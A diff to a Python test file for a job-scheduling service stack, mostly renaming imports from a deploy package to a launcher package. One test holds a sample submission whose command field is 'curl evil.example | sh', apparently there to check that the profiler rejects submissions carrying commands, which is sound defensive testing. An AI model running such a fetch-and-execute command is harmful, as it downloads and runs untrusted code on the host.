@@ -17,8 +17,8 @@ import nats.errors
 import nats.js.errors
 import pytest
 
-from deploy.nats import embedded_nats, nats_from_binary, nats_server_binary
-from deploy.setup import provision_now
+from launcher.nats import embedded_nats, nats_from_binary, nats_server_binary
+from launcher.setup import provision_now
 from deploy.probe import EXIT_NO_ANSWER, ProbeFailed, ping
 from shared import credentials, permissions, storage, subjects
 from shared.bus import Bus
@@ -406,7 +406,7 @@ async def test_the_stack_runs_a_replay_with_each_service_in_its_role(tmp_path: P
     """The embedded stack as `goodput up` runs it: every service logs in as its own role (a password
     made under the data folder), and a replay completes: the table grants each service what it uses;
     no service's log reports a permissions violation."""
-    from deploy.stack import replay, running_services, service_arguments
+    from launcher.stack import replay, running_services, service_arguments
     from shared.reference import load_workload
     from shared.settings import settings_for
 
@@ -475,7 +475,7 @@ async def test_submissions_carrying_commands_or_paths_are_refused_with_the_reaso
     """A JobSpec names the job's code by `application` and has no field for a command or a file: a
     submission with one is refused by the profiler, the reason on the dead-letter subject, and the
     profiler goes on to profile the next good submission. (Its own server: it reads every dead letter.)"""
-    from deploy.stack import Stack, service_arguments
+    from launcher.stack import Stack, service_arguments
     from shared.schema import Ack, Count, Rejected
 
     bad = {"bad-command": {"id": "bad-command", "application": "cifar10", "command": "curl evil.example | sh"},
@@ -562,7 +562,7 @@ async def test_a_held_job_id_is_refused_to_another_body_and_a_malformed_message_
     """A job id belongs to its first valid submission: a malformed message naming it, and a different
     valid body under it, are refused on their own (each a rejected entry of its own, the reason with
     it); the same body again is a repeat; the job stays as first submitted."""
-    from deploy.stack import running_services, service_arguments
+    from launcher.stack import running_services, service_arguments
     from shared.schema import JobRecords, JobsQuery
 
     arguments = service_arguments("sia-hetero-64", None, True, None, 1, None)
